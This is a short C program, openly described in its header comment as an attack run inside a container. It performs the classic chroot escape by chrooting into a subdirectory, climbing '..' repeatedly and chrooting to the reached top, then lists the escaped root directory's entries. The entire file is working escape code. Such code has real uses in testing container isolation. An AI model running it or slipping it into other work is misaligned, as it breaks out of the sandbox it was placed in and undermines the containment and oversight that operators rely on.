/*
 * The classic chroot escape, run inside a container as an attack: chroot into a subdirectory
 * while the working directory stays outside it, climb "..", and chroot to where the climb ends.
 * With CAP_SYS_CHROOT (Docker's default set has it) this leaves any root that is not a mount
 * namespace's top. Prints every name in the directory it ended in, one a line, then "done".
 */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

/* Far more ".." than any path is deep: the climb stops at the top it can reach. */
#define CLIMB 256

int main(void) {
    mkdir("/tmp/escape-jail", 0700);
    if (chroot("/tmp/escape-jail") != 0) {
        perror("chroot");
        return 2;
    }
    for (int i = 0; i < CLIMB; i++) chdir("..");
    if (chroot(".") != 0) {
        perror("chroot .");
        return 2;
    }
    DIR *dir = opendir("/");
    if (!dir) {
        perror("opendir /");
        return 2;
    }
    struct dirent *entry;
    while ((entry = readdir(dir)) != NULL) puts(entry->d_name);
    closedir(dir);
    puts("done");
    return 0;
}
